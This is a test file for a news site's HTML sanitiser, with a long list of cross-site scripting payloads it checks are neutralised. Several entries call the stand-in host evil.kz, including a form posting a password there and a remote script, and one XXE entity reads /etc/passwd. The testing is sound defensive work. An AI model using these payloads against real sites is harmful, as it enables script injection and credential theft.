"""Nothing that an article says can run in its reader's browser."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, strategies as st

from newsgen.printable import printable
from newsgen.render.addresses import Surroundings
from newsgen.render.embeds import embed_of, frame_hosts
from newsgen.render.markdown import Bodies
from newsgen.render.sanitise import sanitised

AROUND = Surroundings("https://example.kz/news/", "/news", {"a.jpg": "/media/a.1.jpg"})

TAG_NAMES = """
a abbr aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em
figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp
small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr
"""
TAGS = frozenset(TAG_NAMES.split())
ATTRIBUTE_NAMES = """
alt class colspan datetime dir height href hreflang id lang loading open rel reversed rowspan
scope span src start title translate value width
"""
ATTRIBUTES = frozenset(ATTRIBUTE_NAMES.split())
BOX = {
    tag: {"role": "group", "aria-label": words, "tabindex": "0"}
    for tag, words in (("div", "Таблица"), ("pre", "Код"))
}


class Judge(HTMLParser):
    """Reads HTML as a browser would and holds every tag and attribute against the lists."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "button" and attrs == [("type", "button"), ("hidden", None)]:
            return  # of a card of ours: what it loads stands in the figure around it
        if tag in ("div", "pre") and attrs[-3:] == [*BOX[tag].items()]:
            attrs = attrs[:-3]  # of a box of ours, which scrolls
        if tag == "figure" and len(attrs) == 3 and attrs[0] == ("class", "embed"):
            self.frame(dict(attrs).get("data-frame") or "")
            attrs = attrs[:1]
        if tag not in TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.faults.append(f"{tag} {name}")
            if name in ("href", "src") and not safe(value or ""):
                self.faults.append(f"{tag} {name}={value}")

    def frame(self, address: str) -> None:
        if urlsplit(address).scheme != "https" or urlsplit(address).netloc not in frame_hosts():
            self.faults.append(f"frame {address}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


def safe(address: str) -> bool:
    # What browsers drop before they look for the scheme.
    bare = re.sub("[\t\n\r]", "", address).lstrip("".join(map(chr, range(0x21))))
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", bare)
    return scheme is None or scheme[1].lower() in ("http", "https", "mailto", "tel")


def html(text: str) -> str:
    return Bodies().html(text, file="a.md", language="ru", around=AROUND)


def faults(made: str) -> list[str]:
    judge = Judge()
    judge.feed(made)
    judge.close()
    return judge.faults


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.kz/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script>alert(1)",
    "a <script>alert(1)</script> b",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript&#x3a;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](&#1;javascript:alert(1))",
    "[a](java&#1;script:alert(1))",
    "[a](java\x01script:alert(1))",
    '<a href="java&#1;script:alert(1)">a</a>',
    '<a href="\x01javascript:alert(1)">a</a>',
    '<a href="java&#0;script:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href=" &#14;  javascript:alert(1)">a</a>',
    '<a href="javascript&#x0003a;alert(1)">a</a>',
    "<a href=javascript:alert(1)>a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![a](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a] [b][a] ![c][a]",
    '[a]: /x/ "onclick=alert(1) \\" onclick=alert(1)"\n\n[a]',
    "<javascript:alert(1)>",
    "<javascript://alert(1)>",
    "<vbscript:a@b.c>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" srcset="x 1x, javascript:alert(1) 2x">',
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    '![a](x"onerror="alert(1))',
    '![a"onerror="alert(1)](x.jpg)',
    "![a](x.jpg \"t\" onerror='alert(1)')",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,x'></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi xlink:href='javascript:alert(1)'>a</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.kz/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code='x'></applet>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<base href='https://evil.kz/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.kz/'>",
    "<link rel='stylesheet' href='https://evil.kz/x.css'>",
    "<style>@import 'https://evil.kz/x.css';</style>",
    "<p style='background:url(https://evil.kz/)'>a</p>",
    "<form action='https://evil.kz/'><input name=password><button>Go</button></form>",
    "<button formaction='javascript:alert(1)'>a</button>",
    "<select><option><script>alert(1)</script></option></select>",
    "<video src=x onerror=alert(1)><source src=x onerror=alert(1)></video>",
    "<audio autoplay src=x onplay=alert(1)></audio>",
    "<details open ontoggle=alert(1)>a</details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1)>a</x>",
    "<p onclick=alert(1) ONMOUSEOVER='alert(1)' on\x01load=alert(1)>a</p>",
    "<a href='/x/' target='_blank' ping='https://evil.kz/' download>a</a>",
    "text {: onclick=alert(1) style=color:red }",
    "# heading {: onclick=alert(1) #x onload='alert(1)' }",
    "*a*{: onclick=alert(1) href=javascript:alert(1) }",
    "[a](/x/){: href=javascript:alert(1) target=_blank }",
    "![a](a.jpg){: onerror=alert(1) src=javascript:alert(1) }",
    "```{.x onclick=alert(1)}\ncode\n```",
    '```x" onclick="alert(1)\ncode\n```',
    "a[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: b",
    'a[^" onclick="alert(1)]\n\n[^" onclick="alert(1)]: <img src=x onerror=alert(1)>',
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[x]]><script>alert(1)</script>",
    "<![foo[<script>alert(1)</script>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "</p></div></main><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|c|",
    "<b><script>alert(1)</script>\n\n*a*\n\n</b>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02amp\x03#60;script>alert(1)</script>",
    "STXwzxhzdk:0ETX <script>alert(1)</script>",
    "<a href='/x/' href='javascript:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)' title='><script>alert(1)</script>'>a</a>",
    "<q cite='javascript:alert(1)'>a</q><del cite='javascript:alert(1)'>b</del>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>a</td></table>",
    "<div id=top class='masthead' role=alert contenteditable autofocus tabindex=1>a</div>",
    "<h2 id='main' name='x' is='y-z' slot='s'>a</h2>",
    "<ѕcript>alert(1)</ѕcript>",
    '<figure class="embed" data-frame="https://evil.kz/"><button>a</button></figure>',
    '<figure class="embed"><button type="button" hidden onclick=alert(1)>a</button></figure>',
    '<p data-frame="javascript:alert(1)">https://youtu.be/dQw4w9WgXcQ</p>',
    "<p>https://youtu.be/dQw4w9WgXcQ</p>",
    'https://youtu.be/dQw4w9WgXcQ?"onload=alert(1)//',
    "https://youtu.be/dQw4w9WgXcQ?&quot;onload=alert(1)//",
    "https://youtu.be.evil.kz/dQw4w9WgXcQ",
    "https://evil.kz/https://youtu.be/dQw4w9WgXcQ",
    "https://youtu.be@evil.kz/dQw4w9WgXcQ",
    "https://yandex.ru/maps/?x=1&amp;javascript:alert(1)",
    "https://www.facebook.com/x/posts/1?'\"><script>alert(1)</script>",
    '![a](a.jpg "<script>alert(1)</script> | <img src=x onerror=alert(1)>")',
    "![a](a.jpg '&lt;script>alert(1)&lt;/script> | \" onerror=alert(1)')",
    "::: справка <script>alert(1)</script>\n<script>alert(1)</script>\n:::",
    '::: update "><script>alert(1)</script>\n[a](javascript:alert(1))\n:::',
    "::: хроника\n:: <img src=x onerror=alert(1)>\n<svg onload=alert(1)>\n:::",
    "::: read-also <script>alert(1)</script>\n<img src=x onerror=alert(1)>\n:::",
    '<aside class="read-also"><p>&lt;script></p></aside>',
    "<aside class=read-also onclick=alert(1) hidden><p>x</p></aside>",
    "::: цитата\n</blockquote></figure></main><script>alert(1)</script>\n:::",
    "\x02newsgen-opens:0\x03\n\nа\n\n\x02newsgen-closes:0\x03",
    "[a](//evil.kz/ 'x')",
    "[a](https://user:pass@evil.kz/)",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_executable_survives(vector: str) -> None:
    assert faults(html(vector)) == []
    assert faults(html(f"Слово {vector} слово")) == []
    assert faults(html(f"- a\n\n    > {vector}")) == []


@pytest.mark.parametrize("vector", VECTORS)
def test_what_is_clean_stays_as_it_is(vector: str) -> None:
    once = sanitised(vector)
    assert sanitised(once) == once


@given(st.lists(st.sampled_from([*VECTORS, "\n\n", "> ", "- ", "`", "*", "[", "](", "x", "\x02"])))
def test_no_mixture_of_vectors_survives(parts: list[str]) -> None:
    assert faults(html("".join(parts))) == []


def test_the_judge_sees_what_it_should() -> None:
    bad = "<script></script><p onclick=x><a href='java\tscript:x'><img src=data:x><!--x--><!x><?x>"
    assert len(faults(bad)) == 7


def test_a_script_s_text_goes_with_it() -> None:
    assert html("a <script>alert(1)</script> b") == "<p>a  b</p>"
    assert "alert" not in html("<svg><style>alert(1)</style></svg>")


def test_harmless_html_passes() -> None:
    text = (
        '<figure><img src="/a.png" alt="a" width="10" height="20">\n'
        "<figcaption>b <kbd>c</kbd> <abbr title='d'>e</abbr></figcaption></figure>"
    )
    made = html(text)
    assert made == (
        '<figure><img src="/news/a.png" alt="a" width="10" height="20" loading="lazy">\n'
        '<figcaption>b <kbd>c</kbd> <abbr title="d">e</abbr></figcaption></figure>'
    )


def test_classes_are_those_our_extensions_make() -> None:
    made = sanitised('<p class="masthead footnote x language-c++ align-right align-top">a</p>')
    assert made == '<p class="footnote language-c++ align-right">a</p>'


def test_what_a_link_says_of_where_it_leads_is_for_search_engines_only() -> None:
    made = html("[a](https://x.kz/){rel='Sponsored me UGC opener'} [b](/x/){rel=tag}")
    assert made == (
        '<p><a href="https://x.kz/" rel="sponsored ugc noopener">a</a> <a href="/news/x/">b</a></p>'
    )


def test_no_html_makes_a_card_that_its_address_alone_would_not_make() -> None:
    address = "https://youtu.be/dQw4w9WgXcQ"
    assert html(f'<p data-frame="https://evil.kz/">{address}</p>').count("evil") == 0
    assert html(f"<p>{address}</p>") == html(address)
    assert embed_of(address) is not None
    forged = '<figure class="embed" data-frame="https://evil.kz/"><button>a</button></figure>'
    assert html(forged) == "<figure>a</figure>"


def test_ids_stay_on_headings_and_notes() -> None:
    assert sanitised('<h2 id="a-б">x</h2>') == '<h2 id="a-б">x</h2>'
    assert sanitised('<sup id="fnref:1">x</sup>') == '<sup id="fnref:1">x</sup>'
    assert sanitised('<p id="a">x</p><h2 id="a b">y</h2>') == "<p>x</p><h2>y</h2>"


def test_sizes_are_small_numbers() -> None:
    made = sanitised('<img src="a" width="100%" height="99999"><ol start="-3"><li>a</li></ol>')
    assert made == '<img src="a"><ol start="-3"><li>a</li></ol>'


def test_characters_that_xml_forbids_are_gone() -> None:
    forbidden = "a\x00\x01\x08\x0b\x1f\x7f\x9f\ud800\ufffe\uffffb\t\n\r"
    assert printable(forbidden) == "ab\t\n\r"
    assert html("a&#1;&#x8;&#xFFFE;b &amp;#1;") == "<p>ab &amp;#1;</p>"


@pytest.mark.parametrize(
    "address",
    ["https://a.kz/b.png", "//a.kz/b.png", "\\\\a.kz/b.png", "/\t/a.kz/b.png", " HTTP:b.png"],
)
def test_no_picture_is_fetched_from_elsewhere(address: str) -> None:
    assert sanitised(f'<p><img src="{address}" alt="a"></p>') == '<p><img alt="a"></p>'
    assert 'src="photos/b.png"' in sanitised('<img src="photos/b.png">')
